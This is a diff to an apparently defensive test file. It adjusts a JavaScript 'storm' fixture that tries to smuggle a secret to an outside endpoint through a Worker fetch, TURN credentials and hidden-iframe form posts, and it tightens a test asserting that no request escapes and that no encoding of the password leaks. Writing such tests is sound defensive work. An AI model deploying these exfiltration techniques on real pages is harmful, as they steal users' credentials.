@@ -732,7 +732,7 @@ STORM_BY_SCRIPT = """const storm = () => {
   try { new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/worker?d=" + p + "')"]))); } catch (e) {}
   try { new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:9?transport=udp", username: p,
     credential: "x"}]}); } catch (e) {}
-  for (let i = 0; i < 10; i++) {
+  for (let i = 0; i < 25; i++) {
     const f = document.createElement("iframe"); f.name = "f" + Math.random(); document.body.append(f);
     const form = Object.assign(document.createElement("form"), {method: "POST", action: E + "/form", target: f.name});
     form.append(Object.assign(document.createElement("input"), {name: "p", value: p})); document.body.append(form);
@@ -773,5 +773,5 @@ def test_a_login_page_cannot_hold_the_sign_in_longer_than_its_deadline(tmp_path,
     assert elsewhere.requests == [], elsewhere.requests[:3]
     assert result.returncode == 1, output[-3000:]
     assert said in output, output[-3000:]
-    assert took < 20 + 60, f"the run took {took:.0f} s"  # the deadline, and the run's own start and end
+    assert took < 20 + 40, f"the run took {took:.0f} s"  # the deadline, and the run's own start and end
     assert not [form for form in _every_encoding(PASSWORD) if form in output]
